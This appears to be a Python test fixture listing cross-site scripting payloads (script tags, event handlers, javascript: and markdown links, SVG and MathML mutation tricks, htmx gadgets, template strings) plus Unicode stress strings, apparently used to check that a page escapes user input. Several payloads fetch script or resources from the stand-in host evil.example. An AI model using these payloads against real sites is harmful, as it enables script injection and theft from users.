"""Texts that were written to be run: a corpus of the ways into a page, for every field that a log or a person fills.

Each sets `pwned`, or asks for `/stolen` or for evil.example, if a browser takes any of it for more than text.
"""

from __future__ import annotations

SCRIPTS = [
    "<script>pwned=1</script>",
    "<ScRiPt>pwned=1</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script src=/stolen></script>",
    "<script>pwned=1//",
    "<scr<script>ipt>pwned=1</scr</script>ipt>",
    "</script><script>pwned=1</script>",
    "</textarea><script>pwned=1</script>",
    "</title><script>pwned=1</script>",
    "</template><script>pwned=1</script>",
    "--><script>pwned=1</script>",
    "]]><script>pwned=1</script>",
    "<script type=module>pwned=1</script>",
    "<script nonce=x>pwned=1</script>",
]
HANDLERS = [
    "<img src=x onerror=pwned=1>",
    '"><img src=/stolen onerror="pwned=1">',
    "'><img src=x onerror='pwned=1'>",
    "<img/src/onerror=pwned=1>",
    "<img src=x:x onerror=`pwned=1`>",
    "<body onload=pwned=1>",
    "<svg onload=pwned=1>",
    "<svg/onload=pwned=1//",
    "<input autofocus onfocus=pwned=1>",
    "<select autofocus onfocus=pwned=1></select>",
    "<textarea autofocus onfocus=pwned=1></textarea>",
    "<details open ontoggle=pwned=1><summary>x</summary></details>",
    "<video><source onerror=pwned=1></video>",
    "<audio src=x onerror=pwned=1></audio>",
    "<marquee onstart=pwned=1>x</marquee>",
    "<div onpointerover=pwned=1>x</div>",
    "<style>@keyframes x{}</style><b style='animation-name:x' onanimationstart=pwned=1>x</b>",
    '" autofocus onfocus="pwned=1',
    "' onmouseover='pwned=1",
    "<xss id=x tabindex=1 onfocus=pwned=1></xss>",
]
LINKS = [
    "<a href=javascript:pwned=1>x</a>", "<a href='java\tscript:pwned=1'>x</a>", "<a href=&#106;avascript:pwned=1>x</a>",
    "<a href='javascript&colon;pwned=1'>x</a>", "<form action=javascript:pwned=1><button>x</button></form>",
    "<button formaction=javascript:pwned=1>x</button>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<link rel=stylesheet href=//evil.example/x.css>",
    "[x](javascript:pwned=1)", "[x](JaVaScRiPt:pwned=1)", "[x](&#106;avascript:pwned=1)",
    "[x](data:text/html,<script>pwned=1</script>)", "![x](//evil.example/x.png)", "![x](http://evil.example/x.png)",
    "[x]: javascript:pwned=1\n\n[x]", "<javascript:pwned=1>", "[x](//evil.example)", "**b** [x](vbscript:pwned=1)",
    r"$\href{javascript:pwned=1}{x}$",
]  # fmt: skip
FOREIGN = [
    "<iframe src=javascript:pwned=1></iframe>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<object data=javascript:pwned=1></object>",
    "<embed src=javascript:pwned=1>",
    "<svg><script>pwned=1</script></svg>",
    "<svg><a xlink:href=javascript:pwned=1><text>x</text></a></svg>",
    "<svg><animate onbegin=pwned=1 attributeName=x dur=1s>",
    "<svg><use href=data:image/svg+xml,<svg/onload=pwned=1>>",
    "<math href=javascript:pwned=1>x</math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=pwned=1>",
    "<svg></p><style><a id='</style><img src=1 onerror=pwned=1>'>",
    "<noscript><p title='</noscript><img src=x onerror=pwned=1>'>",
    "<form><math><mtext></form><form><mglyph><style>",
    "<listing>&lt;img src=x onerror=pwned=1&gt;</listing>",
    "<!--><img src=x onerror=pwned=1>-->",
    "&lt;script&gt;pwned=1&lt;/script&gt;",
    "<style>body{background:url(/stolen)}</style>",
]
GADGETS = [
    "<div hx-get=/stolen hx-trigger=load>x</div>",
    "<div data-hx-get=/stolen data-hx-trigger=load>x</div>",
    "<div hx-on:load='pwned=1' hx-trigger=load>x</div>",
    "<form id=card data-ahead=/stolen><input name=csrf_token></form>",
    "<b data-key=a data-action=undo>x</b>",
    "{{ 7 * 7 }}{% raw %}",
    "${pwned=1}",
    "%(name)s %s {0}",
    "\u202e<script>pwned=1</script>\u202c",
    "\uff1cscript\uff1epwned=1\uff1c/script\uff1e",
    "<\u200bscript>pwned=1</script>",
    "问<script>pwned=1</script>答",
]
CORPUS = [*SCRIPTS, *HANDLERS, *LINKS, *FOREIGN, *GADGETS]

ZALGO = "Ẑ" + "\u0300\u0301\u0316\u0334\u0489" * 60 + "algo " + "x\u0336\u20d2" * 200
UNSEEN = "in\u200bvis\u200cib\u200dle \ufeff\u2060\u00ad" * 60 + "\u200b" * 3000
TURNED = "\u202eright to left\u202c \u2067\u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627\u2069 " * 60
